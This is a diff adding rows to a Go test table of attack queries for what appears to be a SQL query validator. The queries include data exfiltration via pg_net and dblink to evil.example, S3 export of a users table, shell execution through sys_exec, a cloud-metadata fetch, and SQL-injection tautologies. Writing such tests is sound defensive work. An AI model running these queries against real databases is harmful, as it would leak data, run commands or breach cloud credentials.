@@ -117,6 +117,11 @@ var attacks = []attack{
 	{"dblink", `SELECT * FROM dblink('host=evil.example user=x', 'select 1') AS t(x int)`, ro, RuleFunction},
 	{"dblink_exec", `SELECT dblink_exec('dbname=test', 'DROP TABLE users')`, ro, RuleFunction},
 	{"http extension", `SELECT content FROM http_get('http://169.254.169.254/latest/meta-data/')`, ro, RuleFunction},
+	{"pg_net", `SELECT net.http_post('https://evil.example', '{}'::jsonb)`, ro, RuleFunction},
+	{"aws_s3 export", `SELECT * FROM aws_s3.query_export_to_s3('SELECT * FROM users', 'bucket', 'key', 'us-east-1')`, ro, RuleFunction},
+	{"aws lambda", `SELECT * FROM aws_lambda.invoke(aws_commons.create_lambda_function_arn('f'), '{}'::json)`, ro, RuleFunction},
+	{"udf shell", `SELECT sys_exec('id')`, ro, RuleFunction},
+	{"brin summarize writes", `SELECT brin_summarize_new_values('orders_brin')`, ro, RuleFunction},
 	{"adminpack write", `SELECT pg_file_write('/tmp/x', 'data', false)`, ro, RuleFunction},
 	// server control
 	{"terminate backend", `SELECT pg_terminate_backend(pid) FROM pg_stat_activity`, ro, RuleFunction},
@@ -191,6 +196,11 @@ var attacks = []attack{
 	{"and of truths", `SELECT * FROM users WHERE id = 1 OR 1=1 AND 2=2`, strict, RuleTautology},
 	{"in join condition", `SELECT * FROM users u JOIN orders o ON u.id = o.user_id OR 1=1`, strict, RuleTautology},
 	{"in subquery", `SELECT * FROM orders WHERE user_id IN (SELECT id FROM users WHERE name = '' OR 1=1)`, strict, RuleTautology},
+	{"scalar subquery", `SELECT * FROM users WHERE id = 1 OR (SELECT 1) = 1`, strict, RuleTautology},
+	{"exists of a constant", `SELECT * FROM users WHERE id = 1 OR EXISTS (SELECT 1)`, strict, RuleTautology},
+	{"in a constant subquery", `SELECT * FROM users WHERE id = 1 OR 1 IN (SELECT 1)`, strict, RuleTautology},
+	{"any of an array", `SELECT * FROM users WHERE id = 1 OR 1 = ANY (ARRAY[1, 2])`, strict, RuleTautology},
+	{"not distinct from itself", `SELECT * FROM users WHERE id = 1 OR name IS NOT DISTINCT FROM name`, strict, RuleTautology},
 	{"is true", `SELECT * FROM users WHERE id = 1 OR (2 > 1) IS TRUE`, strict, RuleTautology},
 	// a pinned table list
 	{"union into another table", `SELECT name FROM users UNION SELECT customer FROM invoices`, pinned, RuleTable},
